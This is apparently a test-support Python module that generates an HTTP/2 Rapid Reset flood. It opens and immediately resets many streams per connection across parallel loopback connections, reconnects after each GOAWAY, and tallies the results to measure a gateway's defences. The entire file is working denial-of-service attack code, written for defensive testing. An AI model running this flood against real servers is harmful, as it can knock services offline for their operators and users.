"""HTTP/2 Rapid Reset from loopback, for tests: HEADERS + RST_STREAM pairs over h2c, built with the ``h2`` library.

``python -m tests.support.h2attack PORT SECONDS CONNECTIONS STREAMS`` runs ``CONNECTIONS`` clients in parallel for
``SECONDS`` (bounded: it stops by itself), each sending ``STREAMS`` opened-and-reset streams per connection as fast
as it can and reconnecting after a GOAWAY, a close or the last stream; it prints one JSON line of counts. It runs in
a process of its own so that the attacker's CPU is not the measuring process's.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from dataclasses import asdict, dataclass, field

import h2.config
import h2.connection
import h2.errors

HOST = "127.0.0.1"
# The attacker's own source address (loopback too): the healthy clients measured beside it come from 127.0.0.1, so
# the gateway's per-address defences (the penalty box) can tell them apart, as they would two hosts.
SOURCE = "127.0.0.2"


@dataclass
class Tally:
    connections: int = 0
    streams: int = 0
    goaways: dict[str, int] = field(default_factory=dict)
    refused: int = 0  # connections that could not be opened or were cut before the blob was written


def opened_and_reset(streams: int, path: str = "/healthz") -> tuple[h2.connection.H2Connection, bytes]:
    """A client connection and the bytes that open and reset ``streams`` streams on it, after the preface."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    headers = [(b":method", b"GET"), (b":path", path.encode()), (b":scheme", b"http"), (b":authority", b"127.0.0.1")]
    for _ in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers, end_stream=True)
        conn.reset_stream(stream_id)
    return conn, conn.data_to_send()


def goaway_in(data: bytes) -> str | None:
    """The error code name of the first GOAWAY frame in ``data`` (raw HTTP/2 frames), if any."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == 0x7 and at + 9 + 8 <= len(data):  # GOAWAY: last stream id (4), error code (4)
            code = int.from_bytes(data[at + 13:at + 17], "big")
            try:
                return h2.errors.ErrorCodes(code).name
            except ValueError:
                return str(code)
        at += 9 + length
    return None


async def goaway(reader: asyncio.StreamReader, timeout: float) -> str | None:
    """The error code name of the server's GOAWAY, or None when the connection ends or stays quiet without one.

    The frames are read raw, without an h2 state machine: the attacker's blob is built once and replayed on every
    connection (its bytes are the same each time), so nothing tracks the streams it opened."""
    deadline = time.monotonic() + timeout
    received = b""
    while (left := deadline - time.monotonic()) > 0:
        try:
            data = await asyncio.wait_for(reader.read(65536), left)
        except (TimeoutError, ConnectionError):
            return None
        if not data:
            return None
        received += data
        code = goaway_in(received)
        if code is not None:
            return code
    return None


_BLOBS: dict[int, bytes] = {}


async def one_connection(port: int, streams: int, tally: Tally, quiet_after: float) -> None:
    blob = _BLOBS.get(streams)
    if blob is None:
        blob = _BLOBS[streams] = opened_and_reset(streams)[1]
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port, local_addr=(SOURCE, 0)), 2.0)
    except (OSError, TimeoutError):
        tally.refused += 1
        return
    tally.connections += 1
    try:
        writer.write(blob)
        await asyncio.wait_for(writer.drain(), 5.0)
        tally.streams += streams
        code = await goaway(reader, quiet_after)
        if code is not None:
            tally.goaways[code] = tally.goaways.get(code, 0) + 1
    except (OSError, TimeoutError):
        tally.refused += 1
    finally:
        writer.close()


async def attack(port: int, seconds: float, connections: int, streams: int) -> Tally:
    tally = Tally()
    deadline = time.monotonic() + seconds

    async def client() -> None:
        while time.monotonic() < deadline:
            await one_connection(port, streams, tally, min(1.0, max(0.0, deadline - time.monotonic())))

    await asyncio.wait_for(asyncio.gather(*(client() for _ in range(connections))), seconds + 15)
    return tally


if __name__ == "__main__":
    port, seconds, connections, streams = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    print(json.dumps(asdict(asyncio.run(attack(port, seconds, connections, streams)))))
